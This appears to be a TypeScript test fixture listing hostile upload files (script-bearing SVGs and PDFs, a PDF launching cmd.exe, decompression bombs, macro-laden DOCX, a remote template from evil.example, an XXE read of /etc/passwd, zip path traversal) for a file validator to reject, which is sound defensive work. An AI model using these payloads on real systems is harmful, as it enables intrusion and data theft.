import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { aPdf, aPicture, aWordDocument, anOpenDocument } from './files';
import { anArchive } from './workbooks';

const plain = (format: 'gif' | 'tiff' | 'avif' | 'heif'): Promise<Buffer> =>
  sharp({ create: { width: 8, height: 8, channels: 3, background: '#123' } })
    .toFormat(format, format === 'heif' ? { compression: 'av1' } : {})
    .toBuffer();
export const script = '<script>alert(1)</script>';
const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`);

/** A picture that says it has so many points, and has nothing behind it. */
async function claiming(width: number, height: number): Promise<Buffer> {
  const png = Buffer.from(await aPicture({ format: 'png' }));
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  png.writeUInt32BE(crc(png.subarray(12, 29)), 29);
  return png;
}

function crc(bytes: Buffer): number {
  let sum = 0xff_ff_ff_ff;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = (sum >>> 1) ^ (sum & 1 ? 0xed_b8_83_20 : 0);
  }
  return (sum ^ 0xff_ff_ff_ff) >>> 0;
}

export function wide(): Promise<Buffer> {
  return sharp({
    create: { width: 30_000, height: 30_000, channels: 3, background: '#000' },
    limitInputPixels: false,
  })
    .png({ compressionLevel: 9 })
    .toBuffer();
}

function moving(frames: number): Promise<Buffer> {
  const height = 4;
  return sharp(
    Buffer.alloc(4 * height * frames * 3, 9).map((_, i) => (i * 7) % 251),
    {
      raw: { width: 4, height: height * frames, channels: 3, pageHeight: height },
    },
  )
    .webp({ loop: 0, delay: Array.from({ length: frames }, () => 20) })
    .toBuffer();
}

export const objectStream = (objects: string): string => {
  const packed = deflateSync(Buffer.from(objects)).toString('latin1');
  return `5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${String(packed.length)} >>\nstream\n${packed}\nendstream\nendobj\n`;
};
const action = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const rels = (type: string): string =>
  `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`;

export type Made = Buffer | Promise<Buffer>;
/** Files that would harm somebody, each with why it is refused. */
export const hostile: [what: string, name: string, make: () => Made, why: string][] = [
  // C7: what a browser would run.
  ['an SVG', 'a.svg', () => svg, 'wrongType'],
  ['an SVG that is called PNG', 'a.png', () => svg, 'wrongType'],
  ['a page that is called PNG', 'a.png', () => Buffer.from(`<html>${script}`), 'wrongType'],
  ['a page that is called text', 'a.txt', () => Buffer.from(`Hi!\n${script}`), 'wrongType'],
  ['a text that is called page', 'a.html', () => Buffer.from('Hi!'), 'wrongEnding'],
  ['a GIF that is JavaScript', 'a.gif', () => Buffer.from('GIF89a/*\0*/=1;alert(1)'), 'wrongType'],
  ['a PDF with JavaScript', 'a.pdf', () => aPdf('', `/OpenAction ${action}`), 'hasScripts'],
  [
    'a PDF that spells it otherwise',
    'a.pdf',
    () => aPdf('', '/OpenAction << /S /J#61v#61Script /J#53 (x) >>'),
    'hasScripts',
  ],
  ['a PDF that packs it', 'a.pdf', () => aPdf(objectStream(`6 0 ${action}`)), 'hasScripts'],
  [
    'a PDF that starts a program',
    'a.pdf',
    () => aPdf('', '/OpenAction << /S /Launch /F (cmd.exe) >>'),
    'hasScripts',
  ],
  [
    'a PDF with a file inside',
    'a.pdf',
    () => aPdf('', '/Names << /EmbeddedFiles 9 0 R >>'),
    'hasScripts',
  ],
  [
    'a PDF that is an archive',
    'a.pdf',
    async () => Buffer.concat([aPdf(), await aWordDocument()]),
    'twoInOne',
  ],
  [
    'a PDF that begins as a page',
    'a.pdf',
    () => Buffer.from(`%PDF-1.7\n<html>${script}\n%%EOF`),
    'twoInOne',
  ],
  ['half of a PDF', 'a.pdf', () => aPdf('x'.repeat(4_000)).subarray(0, 3_000), 'unreadable'],
  ['a PDF with a password', 'a.pdf', () => aPdf('', '/Encrypt 8 0 R'), 'encrypted'],
  [
    'a PDF that is a bomb',
    'a.pdf',
    () => aPdf(objectStream('0'.repeat(130 * 1024 * 1024))),
    'tooBigInside',
  ],
  // C8: what a reader of pictures would choke on.
  ['30,000 by 30,000 points', 'a.png', wide, 'tooManyPixels'],
  ['a picture that says it is as wide', 'a.png', () => claiming(65_000, 65_000), 'tooManyPixels'],
  ['a picture that says it is wider than it is', 'a.png', () => claiming(900, 900), 'unreadable'],
  ['a GIF', 'a.gif', () => plain('gif'), 'wrongType'],
  ['a TIFF', 'a.tiff', () => plain('tiff'), 'wrongType'],
  ['an AVIF', 'a.avif', () => plain('avif'), 'wrongType'],
  ['an AVIF that is called JPEG', 'a.jpg', () => plain('avif'), 'wrongType'],
  ['a WebP of 1,000 pictures', 'a.webp', () => moving(1_000), 'animated'],
  ['half of a JPEG', 'a.jpg', async () => (await aPicture()).subarray(0, 700), 'unreadable'],
  [
    'half of a PNG',
    'a.png',
    async () => (await aPicture({ format: 'png' })).subarray(0, 90),
    'unreadable',
  ],
  [
    'noise that begins as a JPEG',
    'a.jpg',
    () => Buffer.from('ffd8ffe000104a464946'.padEnd(9_000, '7'), 'hex'),
    'unreadable',
  ],
  ['a PNG that is called PDF', 'a.pdf', () => aPicture({ format: 'png' }), 'wrongEnding'],
  ['a PDF that is called PNG', 'a.png', () => aPdf(), 'wrongEnding'],
  // C15: what an office program would be led by.
  [
    'a document that is a bomb',
    'a.docx',
    () => aWordDocument({ 'word/media.bin': Buffer.alloc(300 * 1024 * 1024) }),
    'tooBigInside',
  ],
  [
    'a document with macros',
    'a.docx',
    () => aWordDocument({ 'word/vbaProject.bin': 'x' }),
    'hasMacros',
  ],
  [
    'a document with controls',
    'a.docx',
    () => aWordDocument({ 'word/activeX/a.xml': '<x/>' }),
    'hasMacros',
  ],
  [
    'a document that says it has macros',
    'a.docx',
    () =>
      aWordDocument({
        '[Content_Types].xml':
          '<Types><Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      }),
    'hasMacros',
  ],
  [
    'a document that fetches a template',
    'a.docx',
    () => aWordDocument({ 'word/_rels/settings.xml.rels': rels('attachedTemplate') }),
    'hasMacros',
  ],
  [
    'a document that fetches an object',
    'a.docx',
    () => aWordDocument({ 'word/_rels/document.xml.rels': rels('oleObject') }),
    'hasMacros',
  ],
  [
    'a document with entities',
    'a.docx',
    () =>
      aWordDocument({
        'word/document.xml': '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>',
      }),
    'hasEntities',
  ],
  [
    'a document with a path out of it',
    'a.docx',
    async () =>
      Buffer.from(
        (await aWordDocument({ 'aa/bb/evil.xml': 'x' }))
          .toString('latin1')
          .replaceAll('aa/bb/evil', '../../evil'),
        'latin1',
      ),
    'hostileNames',
  ],
  [
    '4,000 parts',
    'a.docx',
    () =>
      aWordDocument(
        Object.fromEntries(Array.from({ length: 4_000 }, (_, i) => [`p${String(i)}`, ''])),
      ),
    'tooManyEntries',
  ],
  [
    'a document of two kinds',
    'a.docx',
    () => aWordDocument({ 'xl/workbook.xml': '<x/>' }),
    'twoInOne',
  ],
  [
    'half of a document',
    'a.docx',
    async () => (await aWordDocument()).subarray(0, 300),
    'unreadable',
  ],
  ['an archive', 'a.zip', () => anArchive([['a.txt', 'x']]), 'wrongType'],
  ['an archive that is called document', 'a.docx', () => anArchive([['a.txt', 'x']]), 'wrongType'],
  [
    'scripts of LibreOffice',
    'a.odt',
    () => anOpenDocument('text', { 'Basic/Standard/m.xml': '<x/>' }),
    'hasMacros',
  ],
  [
    'an OpenDocument with a password',
    'a.odt',
    () => anOpenDocument('text', { 'META-INF/manifest.xml': '<manifest:encryption-data/>' }),
    'encrypted',
  ],
  ['a drawing of LibreOffice', 'a.odg', () => anOpenDocument('graphics'), 'wrongType'],
  ['a program', 'a.exe', () => Buffer.from(`MZ${'\0'.repeat(400)}`), 'wrongType'],
  ['a text with zeros', 'a.txt', () => Buffer.from('a\0b'), 'wrongType'],
  ['a text in Latin-1', 'a.csv', () => Buffer.from('Málaga;1', 'latin1'), 'notUtf8'],
  ['nothing', 'a.txt', () => Buffer.alloc(0), 'noFile'],
];
